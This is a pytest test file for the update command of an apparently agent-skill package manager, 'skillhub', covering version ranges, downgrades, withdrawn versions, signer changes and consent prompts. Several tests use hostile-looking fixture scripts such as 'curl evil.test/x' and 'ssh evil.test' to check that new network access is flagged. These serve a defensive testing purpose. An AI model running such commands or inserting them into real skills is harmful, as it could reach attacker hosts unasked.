"""Update: the newest version within the range, its plan, questions about its gains; and a check without changes."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from skillhub.audit.audit import AuditRequest, audit
from skillhub.command.state import read_state
from skillhub.errors import NotFound, Refused, SignerChanged, SourceMismatch, WrongBytes
from skillhub.install.candidates import without_files
from skillhub.install.gather import newest_of
from skillhub.install.install import available_updates
from skillhub.install.trusted_sources import Pin, add_source
from skillhub.model.tree import SIGNATURE, File, Tree
from skillhub.project.user_state import Trusted
from skillhub.registry.build import add
from skillhub.registry.operator import Signing
from skillhub.registry.upkeep import AdmissionChange, delegate, withdraw, yank
from skillhub.sources.configured import Sources
from skillhub.sources.local import read_local
from skillhub.trust.keys import PrivateKey
from skillhub.trust.oms import sign
from tests.support.reaching import Reaching
from tests.support.registry import Simulator, write_skill
from tests.support.site import WELL_KNOWN
from tests.support.upstream import SAMPLE, Upstream, text
from tests.support.web import Web
from tests.support.world import Answers, World, needs, refused, skill, snapshot

NEWER = {"SKILL.md": text("Do it better.")}
MORE = {
    "SKILL.md": text("Do it better."),
    "run.sh": b"#!/bin/sh\ncurl https://api.github.com\n",
    "agents/openai.yaml": needs("type: env_var, value: TRACKER_TOKEN").encode(),
}


@pytest.fixture(scope="module")
def shelf(tmp_path_factory: pytest.TempPathFactory) -> Simulator:
    simulator = Simulator(tmp_path_factory.mktemp("shelf"))
    for version in ("1.0.0", "1.1.0", "2.0.0"):
        simulator.publish("hello", version)
    return simulator


@pytest.fixture
def hub(shelf: Simulator, tmp_path: Path) -> Simulator:
    return shelf.copy(tmp_path)


@pytest.fixture
def world(tmp_path: Path, hub: Simulator) -> World:
    world = World(tmp_path)
    world.add_source("acme", hub)
    return world


def version(world: World, name: str = "hello") -> str | None:
    return world.lock().skills[name].version


def want(world: World, line: str) -> None:
    (world.base / "skillhub.toml").write_text(f"[skills]\n{line}\n")


def recall(world: World, hub: Simulator, act, *words: str) -> None:
    act(hub.dir.path, *words, Signing(now=hub.when))
    hub.pull()
    world.sources = Sources(world.home)  # each command is a process of its own


def test_update_takes_the_newest_allowed_version_and_reports_newer_ones(world: World) -> None:
    world.install("acme:hello@1.0.0")
    want(world, 'hello = { source = "acme", version = "^1" }')
    done = world.update()
    assert version(world) == "1.1.0"
    changes = done.changes["hello"]
    assert (changes.before.version, changes.files.changed) == ("1.0.0", ("SKILL.md", SIGNATURE))
    assert any("2.0.0" in line for line in done.warnings)
    assert "1.1.0" in (world.copy("hello") / "SKILL.md").read_text()
    assert not world.update().changed
    assert world.answers.seen == []


def test_the_question_of_an_update_contains_the_plan(world: World) -> None:
    world.install("acme:hello@1.0.0")
    want(world, 'hello = { source = "acme" }')
    error = refused(world, Refused, lambda: world.update(answers=Answers()))
    ((question, _),) = [pair for pair in error.asked if pair[0].kind == "install"]
    assert question.message == "Update hello to 2.0.0?"
    assert "version 1.0.0 -> 2.0.0" in question.details
    assert "~ SKILL.md" in question.details


def test_a_dry_run_changes_nothing(world: World) -> None:
    world.install("acme:hello@1.0.0")
    want(world, "hello = '*'")
    before = world.snapshot()
    done = world.update(dry_run=True, answers=Answers())
    assert world.snapshot() == before
    assert (done.changed, [answer.said for _, answer in done.asked]) == (False, ["unanswered"])
    assert done.changes["hello"].after.version == "2.0.0"


def test_update_of_an_unknown_skill_is_not_found(world: World) -> None:
    world.install("acme:hello@1.0.0")
    refused(world, NotFound, lambda: world.update("hello", "nobody"))


def test_a_downgrade_is_named_as_such_and_follows_the_intent(world: World) -> None:
    world.install("acme:hello@1.1.0")
    want(world, 'hello = { source = "acme", version = "1.0.0" }')
    world.update(answers=Answers("yes"))
    assert "Downgrade hello to 1.0.0?" in [question.message for question in world.answers.seen]
    assert version(world) == "1.0.0"


def documents(world: World) -> dict[Path, bytes]:
    """Return the lock and the intent, as a branch has them."""
    return {path: path.read_bytes() for path in world.base.iterdir() if path.is_file()}


def switch(branch: dict[Path, bytes]) -> None:
    for path, data in branch.items():
        path.write_bytes(data)


def test_a_lock_that_went_back_is_a_downgrade_from_the_version_that_was_agreed_to(
    world: World, hub: Simulator
) -> None:
    other = world.on_another_machine()
    other.add_source("acme", hub)
    other.install("acme:hello@1.0.0")
    older = documents(other)
    shutil.rmtree(world.base / ".agents")
    world.install("acme:hello@1.1.0")
    switch(older)
    world.install(answers=Answers("yes"))
    question = next(each for each in world.answers.seen if each.kind == "install")
    assert question.message == "Downgrade hello to 1.0.0?"
    assert "version 1.1.0 -> 1.0.0 (a downgrade)" in question.details


@pytest.fixture
def branches(world: World) -> tuple[dict[Path, bytes], dict[Path, bytes]]:
    """Two branches with two versions of a skill. The user agreed to both, and the second one is enabled."""
    world.install("acme:hello@1.0.0")
    older = documents(world)
    world.install("acme:hello@1.1.0")
    return older, documents(world)


@pytest.mark.parametrize("options", [{}, {"frozen": True}], ids=["default", "frozen"])
def test_a_lock_that_returns_to_an_agreed_version_asks_nothing(world: World, branches, options) -> None:
    for branch, expected in (*zip(branches, ("1.0.0", "1.1.0"), strict=True),) * 2:
        switch(branch)
        done = world.install(answers=Answers(), **options)
        assert (world.answers.seen, version(world), done.changed) == ([], expected, True)
        assert (world.problems(), world.project.records().enabled(world.lock().skills)) == ([], {"hello"})
        assert [each.is_of(world.lock().skills["hello"]) for each in world.record("hello").former] == [False]


def test_a_former_consent_has_the_commit_and_the_artifact_that_were_agreed_to(world: World, branches) -> None:
    newer = world.record("hello")
    (consent,) = newer.former
    switch(branches[0])
    world.install(answers=Answers())
    assert (world.record("hello").digest, world.record("hello").rev) == (consent.digest, consent.rev)
    assert world.record("hello").digest != newer.digest


def test_attack_an_agreed_tree_from_another_origin_asks_again(world: World) -> None:
    mine, other = (skill(world.base / where, "plain") for where in ("mine", "other"))
    world.install(str(mine))
    older = documents(world)
    (mine / "SKILL.md").write_text((mine / "SKILL.md").read_text() + "More.\n")
    world.update()
    shutil.rmtree(mine)
    switch({path: data.replace(b"mine/plain", b"other/plain") for path, data in older.items()})
    error = refused(world, Refused, lambda: world.install(answers=Answers()))
    assert "install" in [question.kind for question, _ in error.asked]
    assert (world.lock().skills["plain"].path, other.exists()) == ("other/plain", True)


def test_a_skill_that_was_removed_asks_again(world: World, branches) -> None:
    world.remove("hello")
    switch(branches[0])
    assert [each.kind for each, _ in refused(world, Refused, lambda: world.install(answers=Answers())).asked]


def test_a_lock_that_returns_leaves_disabled_what_the_user_disabled(world: World, branches) -> None:
    world.disable("hello")
    switch(branches[0])
    world.install(answers=Answers())
    assert (world.record("hello").enabled, world.copy("hello").exists()) == (False, False)
    assert world.enable("hello", answers=Answers()).skills[0].state == "enabled"


def test_sync_names_install_for_a_lock_that_returned_to_an_agreed_version(world: World, branches) -> None:
    switch(branches[0])
    (line,) = world.sync().warnings
    assert "because another version was enabled here; skillhub install enables the locked one: " in line
    assert [each.state for each in world.sync().skills] == ["disabled"]
    world.install(answers=Answers())
    assert "hello" in world.project.records().enabled(world.lock().skills)


def test_a_record_keeps_the_last_sixteen_consents(world: World, tmp_path: Path) -> None:
    folder = skill(tmp_path / "source", "plain")
    for number in range(20):
        (folder / "SKILL.md").write_text((folder / "SKILL.md").read_text() + f"{number}\n")
        world.install(str(folder)) if number == 0 else world.update()
    former = [each.tree for each in world.record("plain").former]
    assert (len(former), len({*former, world.record("plain").tree})) == (16, 17)


def test_a_yanked_version_stays_with_a_warning_and_a_withdrawn_one_is_replaced(world: World, hub: Simulator) -> None:
    world.install("acme:hello@2.0.0")
    want(world, 'hello = { source = "acme" }')
    recall(world, hub, yank, "hello@2.0.0", "it stutters")
    done = world.update()
    assert (version(world), done.changed) == ("2.0.0", False)
    assert any("yanked" in line and "stutters" in line for line in done.warnings)
    recall(world, hub, withdraw, "hello@2.0.0", "it bites")
    world.update(answers=Answers("yes"))
    assert version(world) == "1.1.0"
    assert "Downgrade hello to 1.1.0?" in [question.message for question in world.answers.seen]


def test_a_yanked_version_without_alternative_is_reported(world: World, hub: Simulator) -> None:
    world.install("acme:hello@2.0.0")
    recall(world, hub, yank, "hello@2.0.0", "it stutters")
    want(world, 'hello = { source = "acme", version = "^2" }')
    done = world.update()
    assert not done.changed
    assert any("no other" in line for line in done.warnings)


@pytest.mark.parametrize("kind", ["tag", *SAMPLE])
def test_a_place_is_updated_to_its_present_content(reaching: Reaching, upstream: Upstream, kind: str) -> None:
    reaching.install(upstream.ref(kind))
    assert reaching.behind().skills == ()
    upstream.have(NEWER)
    (seen,) = reaching.behind().skills
    assert seen.tree != reaching.lock().skills["deploy"].tree
    done = reaching.update("deploy")
    assert reaching.copy("deploy").joinpath("SKILL.md").read_bytes() == NEWER["SKILL.md"]
    assert done.changes["deploy"].files.changed == ("SKILL.md",)
    if kind in ("git", "tag"):
        assert reaching.lock().skills["deploy"].rev == upstream.commit
    assert reaching.behind().skills == ()


def test_a_pinned_commit_is_not_updated(reaching: Reaching, upstream: Upstream) -> None:
    reaching.install(upstream.ref("commit"))
    upstream.have(NEWER)
    assert reaching.behind().skills == ()
    assert not reaching.update().changed


def test_a_commit_that_changes_another_skill_is_no_update(reaching: Reaching, upstream: Upstream) -> None:
    reaching.install(upstream.ref("git"))
    before = reaching.lock_bytes()
    upstream.repo.commit({"skills/deploy/SKILL.md": text(), "skills/other/SKILL.md": text(name="other")})
    assert reaching.behind().skills == ()
    assert not reaching.update().changed
    assert reaching.lock_bytes() == before


def test_a_local_folder_is_updated_to_its_present_content(reaching: Reaching) -> None:
    folder = skill(reaching.base, "deploy")
    reaching.install(str(folder))
    assert reaching.behind().skills == ()
    skill(reaching.base, "deploy", "Better.\n")
    assert [each.name for each in reaching.behind().skills] == ["deploy"]
    reaching.update()
    assert "Better." in reaching.text("deploy")


@pytest.mark.parametrize("kind", [*SAMPLE, "source", "offline"])
def test_a_check_writes_nothing(reaching: Reaching, upstream: Upstream, web: Web, kind: str) -> None:
    """A check writes no cache either: a cache could change the next command's result."""
    if kind == "source":
        web.acts[WELL_KNOWN] = web.acts[f"/new{WELL_KNOWN}"]
        add_source("docs", web.url(""), Pin(), reaching.ports())
        reaching.install("docs:deploy")
    else:
        reaching.install(upstream.ref("commit" if kind == "offline" else kind))
    upstream.have(NEWER)
    web.acts[WELL_KNOWN] = web.acts[f"/new{WELL_KNOWN}"]
    reaching.offline = kind == "offline"
    before = {**snapshot(reaching.base), **snapshot(reaching.top)}
    for names in ((), ("deploy",)):
        assert [each.name for each in reaching.behind(*names).skills] == ["deploy"] * (kind != "offline")
    assert {**snapshot(reaching.base), **snapshot(reaching.top)} == before


def test_gains_of_an_update_are_asked_about_by_name(reaching: Reaching, upstream: Upstream) -> None:
    reaching.install(upstream.ref("git"))
    upstream.have(MORE)
    error = refused(reaching, Refused, lambda: reaching.update(answers=Answers("yes", capability="no")))
    asked = {(question.kind, question.subject) for question, _ in error.asked}
    assert {("capability", "network:api.github.com"), ("capability", "scripts")} <= asked
    assert ("need", "env:TRACKER_TOKEN") in asked
    assert all(question.subject in question.message for question, _ in error.asked if question.kind == "capability")
    refused(reaching, Refused, lambda: reaching.update(answers=Answers("yes", need="no")))
    done = reaching.update(answers=Answers("yes", env="unanswered"))
    assert reaching.lock().skills["deploy"].requires == ("env:TRACKER_TOKEN",)
    assert [each.state for each in done.skills] == ["disabled"]
    changes = done.changes["deploy"]
    assert changes.files.added == ("agents/openai.yaml", "run.sh")
    assert changes.requires.added == ("env:TRACKER_TOKEN",)


@pytest.mark.parametrize("script", ["curl evil.test/x", "import socket", "ssh evil.test"])
def test_attack_an_update_that_gains_unknown_network_access_is_asked_about(
    reaching: Reaching, upstream: Upstream, script: str
) -> None:
    reaching.install(upstream.ref("git"))
    name = "run.py" if "import" in script else "run.sh"
    upstream.have({"SKILL.md": text("Do it better."), name: script.encode()})
    error = refused(reaching, Refused, lambda: reaching.update(answers=Answers("yes", capability="no")))
    asked = {question.subject: question.message for question, _ in error.asked if question.kind == "capability"}
    assert asked["network:?"].endswith(
        "may use the network (network:?), which the lock does not say of the previous version; agree?"
    )


def key(label: str) -> PrivateKey:
    return PrivateKey.from_seed(label.encode().rjust(32, b"x"))


def signed(label: str, body: str) -> dict[str, bytes]:
    signature = sign(Tree({"SKILL.md": File(text(body))}), "deploy", key(label))
    return {"SKILL.md": text(body), SIGNATURE: signature}


@pytest.mark.parametrize("after", ["another", "unsigned"])
def test_attack_an_update_with_another_signer_is_refused(reaching: Reaching, upstream: Upstream, after: str) -> None:
    """No answer and no trust in the other signer accepts it; another key of the same publisher would be accepted."""
    for label in ("one", "two"):
        reaching.publishers.trust(Trusted(keys=(key(label).public.pem.decode(),), name=label))
    upstream.have(signed("one", "Do it."))
    reaching.install(upstream.ref("git"))
    assert reaching.lock().skills["deploy"].signed_by
    upstream.have(NEWER if after == "unsigned" else signed("two", "Do it better."))
    refused(reaching, SignerChanged, lambda: reaching.update())
    with pytest.raises(SignerChanged):
        reaching.behind()
    upstream.have(signed("one", "Do it better."))
    reaching.update()
    assert "better" in reaching.text("deploy")


def test_one_unavailable_skill_stops_an_update_of_all(
    reaching: Reaching, upstream: Upstream, web: Web, tmp_path: Path
) -> None:
    folder = skill(tmp_path, "mail")
    reaching.install(str(folder), upstream.ref("site"))
    skill(tmp_path, "mail", "Better.\n")
    upstream.have(NEWER)
    web.acts["/deploy.zip"] = web.acts["/SKILL.md"]
    refused(reaching, WrongBytes, lambda: reaching.update())
    assert "Better." not in reaching.text("mail")
    reaching.update("mail")
    assert "Better." in reaching.text("mail")


def test_an_intent_cannot_change_the_source_of_a_locked_skill(reaching: Reaching, upstream: Upstream) -> None:
    reaching.install(upstream.ref("git"))
    upstream.have(NEWER)
    want(reaching, f'deploy = {{ from = "{upstream.ref("site")}" }}')
    refused(reaching, SourceMismatch, lambda: reaching.update())


def test_without_a_replacement_the_warning_names_the_withdrawn_version(world: World, hub: Simulator) -> None:
    world.install("acme:hello@1.0.0")
    want(world, 'hello = { source = "acme", version = "^1" }')
    recall(world, hub, withdraw, "hello@1.0.0", "it bites")
    recall(world, hub, withdraw, "hello@1.1.0", "so does it")
    (warning,) = [line for line in world.update().warnings if "withdrawn" in line]
    assert warning == "hello 1.0.0 was withdrawn: it bites; skillhub.toml allows no other version"
    recall(world, hub, withdraw, "hello@2.0.0", "too")
    (warning,) = [line for line in world.update().warnings if "withdrawn" in line]
    way = "skillhub remove hello removes it; its registry has no other version yet"
    assert warning == f"hello 1.0.0 was withdrawn: it bites; {way}"


def test_the_warning_for_a_withdrawn_version_names_one_outside_of_the_range(world: World, hub: Simulator) -> None:
    world.install("acme:hello@1.0.0")
    want(world, 'hello = { source = "acme", version = "~1.0" }')
    assert not available_updates((), world.ports()).pending
    recall(world, hub, yank, "hello@1.0.0", "slow")
    assert not available_updates((), world.ports()).pending
    recall(world, hub, withdraw, "hello@1.0.0", "it bites")
    take = "skillhub install 'acme:hello@^2.0.0'"
    warning = f"hello 2.0.0 is available, but ~1.0 is wanted; to install it: {take}"
    checked = available_updates((), world.ports())
    assert (checked.skills, checked.pending) == ((), True)
    assert warning in checked.warnings
    assert warning in world.update().warnings
    world.install("acme:hello@2.0.0")
    assert version(world) == "2.0.0"
    assert not available_updates((), world.ports()).pending


@pytest.mark.parametrize("is_other", [True, False])
def test_a_version_of_another_publisher_is_named_with_the_removal_that_its_install_needs(
    world: World, hub: Simulator, is_other: bool
) -> None:
    world.install("acme:hello@^1")
    path = write_skill(world.folder, "hello", "3.0.0")
    if is_other:
        key = PrivateKey.generate()
        moved = AdmissionChange(publisher="rival", keys=(key.public.pem,), names=("hello",), move=True)
        delegate(hub.dir.path, moved, Signing(now=hub.when))
        (Path(path) / SIGNATURE).write_bytes(sign(read_local(path).tree, "hello", key))
    add(hub.dir.path, [path], Signing(now=hub.when))
    hub.pull()
    world.sources = Sources(world.home)  # each command is a process of its own
    take = "skillhub install 'acme:hello@^3.0.0'"
    by, first = (" by rival by acme", "skillhub remove hello, then ") if is_other else ("", "")
    warning = f"hello 3.0.0{by} is available, but ^1 is wanted; to install it: {first}{take}"
    assert warning in available_updates((), world.ports()).warnings
    hints = {each.rule: each.hint for each in audit(AuditRequest(), world.ports()).findings}
    assert f"{first}skillhub install acme:hello@3.0.0 installs it" in hints["outdated"]
    if is_other:
        remedy = "skillhub remove hello removes it; then the skill of the name's new owner may be installed"
        assert hints["withdrawn"] == remedy
        refused(world, SignerChanged, lambda: world.install("acme:hello@^3.0.0"))
        world.remove("hello")
    world.install("acme:hello@^3.0.0")
    assert version(world) == "3.0.0"


def test_attack_a_check_keeps_no_files_in_memory(tmp_path):
    simulator, world = Simulator(tmp_path / "hub"), World(tmp_path / "machine")
    simulator.publish()
    world.add_source("acme", simulator)
    world.install("acme:hello")
    simulator.publish("hello", "1.1.0")
    ports = world.ports()

    def on_error(name, error):
        raise error

    state = read_state(ports.project, ports.sources)
    newer = newest_of(["hello"], state, ports, describe=without_files, on_error=on_error).found["hello"]
    assert newer.entry.version == "1.1.0"
    assert newer.tree.listing.digest == newer.entry.tree
    assert newer.manifest.body == ""
    with pytest.raises(KeyError):
        newer.tree["SKILL.md"]
    assert not ports.store.has(newer.entry.tree)


def test_a_skill_of_a_source_that_is_missing_here_is_left_out_with_the_source_as_the_first_cure(tmp_path):
    simulator, world = Simulator(tmp_path / "hub"), World(tmp_path / "machine")
    simulator.publish()
    world.add_source("acme", simulator)
    world.install("acme:hello")
    world.sources.remove("acme")
    (left,) = world.update().left_out
    add = left.message.index("skillhub source add acme URL adds it")
    remove = left.message.index("or skillhub remove hello")
    assert add < remove
